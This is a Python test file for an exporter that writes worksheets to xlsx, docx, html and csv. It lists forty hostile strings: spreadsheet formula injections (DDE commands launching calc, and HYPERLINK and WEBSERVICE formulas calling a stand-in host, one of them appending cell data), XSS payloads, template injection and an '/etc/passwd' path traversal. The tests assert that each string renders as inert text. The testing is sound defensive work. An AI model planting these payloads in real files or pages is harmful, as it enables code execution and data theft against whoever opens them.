"""Forty hostile strings in names and cells: plain text in xlsx, docx, html and csv."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
import zipfile
from functools import cache

import pytest
from docx import Document
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from PIL import Image
from worksheet_factory import NAMING, make_worksheet

from extractor.core.worksheet import Outcome, Worksheet
from extractor.worksheet.csv_out import csv_files, safe_csv
from extractor.worksheet.docx.report import report_of
from extractor.worksheet.html.page import page_of
from extractor.worksheet.prepared import Prepared, prepare
from extractor.worksheet.safe_text import visible
from extractor.worksheet.xlsx.workbook import workbook_of

LONG = "长" * 40_000
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    '=WEBSERVICE("http://x.example/")',
    '=IMPORTXML("http://x.example/","//a")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋SUM(1)",
    "－SUM(1)",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "#REF!",
    "#N/A",
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "' onmouseover='alert(5)",
    "<!--",
    "]]>",
    "&lt;b&gt;&#x3c;",
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(6)",
    "<w:p/><w:t>x",
    "反\u202e向\u202c",
    "\u2066隔离\u2069\u200f",
    "控制\x00\x01\x07\x1b[31m",
    "行\u2028段\u2029",
    "\ufeff\ufffe孤\ud800",
    "_x0041_ _x003D_1",
    "../../etc/passwd",
    '名,称;"引"号',
    LONG,
)
assert len(HOSTILE) == 40


class BlankPages:
    """Pages without print: text is what matters here."""

    def get(self, page_no: int) -> Image.Image:
        return Image.new("RGB", (595, 842), (250, 249, 245 - page_no))


def with_hostile_text(worksheet: Worksheet) -> Worksheet:
    """Names of the packet, its files and papers, cells of a list, values and messages: all hostile."""
    rows = list(worksheet.rows)
    at = next(n for n, r in enumerate(rows) if r.field == "served_list")
    changed = []
    for number, row in enumerate(rows[at].rows):
        text = HOSTILE[number % len(HOSTILE)]
        cells = dict(row.cells)
        name = cells["served_list.enterprise"]
        cells["served_list.enterprise"] = name.model_copy(update={"value": text, "raw": text})
        changed.append(row.model_copy(update={"cells": cells}))
    rows[at] = rows[at].model_copy(update={"rows": tuple(changed)})
    texts = [t for t in HOSTILE if t != LONG]
    facts = tuple(
        fact.model_copy(update={"value": texts[n % len(texts)], "raw": texts[n % len(texts)]})
        if fact.field in ("app_org_name", "app_fax")
        else fact
        for n, fact in enumerate(worksheet.facts)
    )
    findings = tuple(
        f.model_copy(update={"message": texts[n % len(texts)], "title": texts[-n % len(texts)]})
        if f.outcome == Outcome.FAILED
        else f
        for n, f in enumerate(worksheet.findings)
    )
    packet = worksheet.packet.model_copy(update={"name": "<b>=1+1</b>\x07&\u202e"})
    documents = tuple(
        d.model_copy(update={"title": texts[20 + n]}) for n, d in enumerate(worksheet.documents)
    )
    return worksheet.model_copy(
        update={
            "rows": tuple(rows), "facts": facts, "findings": findings, "packet": packet,
            "documents": documents,
        }
    )  # fmt: skip


@cache
def prepared() -> Prepared:
    worksheet = with_hostile_text(make_worksheet(served=len(HOSTILE)))
    return prepare(worksheet, BlankPages(), naming=NAMING)


@cache
def workbook() -> bytes:
    return workbook_of(prepared())


@cache
def page() -> str:
    return page_of(prepared(), BlankPages()).decode("utf-8")


@cache
def report() -> bytes:
    return report_of(prepared())


def tables() -> dict[str, list[list[str]]]:
    return {
        name: list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        for name, content in csv_files(prepared())
    }


def test_the_workbook_shows_each_as_text_and_runs_none() -> None:
    book = load_workbook(io.BytesIO(workbook()))
    shown = set()
    for row in book["服务企业"].iter_rows(min_row=4):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if cell.value is not None:
                shown.add(unescape(str(cell.value)))
    for text in HOSTILE:
        if text != LONG:
            assert visible(text) in shown, repr(text)


def test_over_long_text_is_cut_with_a_mark_and_whole_in_the_data() -> None:
    book = load_workbook(io.BytesIO(workbook()))
    long = [c for row in book["服务企业"].iter_rows() for c in row if len(str(c.value)) > 30_000]
    assert len(long) == 1
    assert len(long[0].value) == 32_767
    assert long[0].value.endswith("全文见 worksheet.json〕")
    assert LONG in json.dumps(json.loads(prepared().content), ensure_ascii=False)
    cut = [c for row in tables()["list-served_list.csv"] for c in row if len(c) > 30_000]
    assert [len(c) for c in cut] == [32_767]
    assert cut[0].endswith("全文见 worksheet.json〕")


def test_nothing_in_the_office_files_leads_outside() -> None:
    for content in (workbook(), report()):
        with zipfile.ZipFile(io.BytesIO(content)) as file:
            names = file.namelist()
            assert not [n for n in names if "externalLink" in n or "vba" in n.lower()]
            for name in (n for n in names if n.endswith(".rels")):
                for target in re.findall(
                    rb'TargetMode="External"[^>]*|Target="[^"]*://', file.read(name)
                ):
                    raise AssertionError((name, target))


def test_the_report_shows_each_as_text() -> None:
    document = Document(io.BytesIO(report()))
    body = "\n".join(t.text or "" for t in document.element.body.iter() if t.tag.endswith("}t"))
    fields = [t.text for t in document.element.iter() if t.tag.endswith("}instrText")]
    assert fields == []  # PAGE and NUMPAGES stand in the footer, nothing else anywhere
    said = {f.message for f in prepared().shown.findings if f.outcome == Outcome.FAILED}
    for text in said:
        for line in visible(text).split("\n"):
            assert line in body, repr(line)


class Reader(html.parser.HTMLParser):
    """What a browser would make of the page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@cache
def read_page() -> Reader:
    reader = Reader()
    reader.feed(page())
    reader.close()
    return reader


def test_the_page_shows_each_as_text_and_runs_none() -> None:
    text = "".join(read_page().text)
    for hostile in HOSTILE:
        assert visible(hostile) in text, repr(hostile[:40])
    scripts = [attributes for tag, attributes in read_page().tags if tag == "script"]
    assert scripts == [{"type": "application/json", "id": "places"}, {}]
    for tag, attributes in read_page().tags:
        assert not [a for a in attributes if a.startswith("on") or a == "style"], tag
        for name in ("src", "href"):
            target = attributes.get(name) or "#"
            assert target.startswith(("#", "data:image/jpeg;base64,")), (tag, target[:40])


def test_the_page_fetches_nothing_and_names_its_own_script() -> None:
    policy = next(a["content"] for t, a in read_page().tags if t == "meta" and "http-equiv" in a)
    assert policy is not None
    assert policy.startswith("default-src 'none'; img-src data:;")
    assert policy.count("'sha256-") == 2
    assert "unsafe" not in policy


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_is_no_formula(text: str) -> None:
    shown = safe_csv(text, "…")
    assert not re.match(r"[=+\-@\t\r\n＝＋－＠]", shown), shown[:20]


def test_figures_stay_figures_in_csv() -> None:
    assert safe_csv("-12.50", "…") == "-12.50"
    assert safe_csv("+5%", "…") == "+5%"
    assert safe_csv("-1+1", "…") == "'-1+1"


def test_csv_holds_each_text_whole_in_one_cell() -> None:
    rows = tables()["list-served_list.csv"]
    assert len(rows) == 2 + len(HOSTILE)
    assert len({len(row) for row in rows}) == 1
    column = rows[1].index("served_list.enterprise")
    for row, text in zip(rows[2:], HOSTILE, strict=True):
        if text != LONG:
            shown = visible(text)
            assert row[column] in (shown, f"'{shown}")


def test_all_formats_give_the_same_bytes_again() -> None:
    worksheet = with_hostile_text(make_worksheet(served=len(HOSTILE)))
    again = prepare(worksheet, BlankPages(), naming=NAMING)
    assert again.content == prepared().content
    assert workbook_of(again) == workbook()
    assert report_of(again) == report()
    assert page_of(again, BlankPages()).decode("utf-8") == page()
    assert dict(csv_files(again)) == dict(csv_files(prepared()))
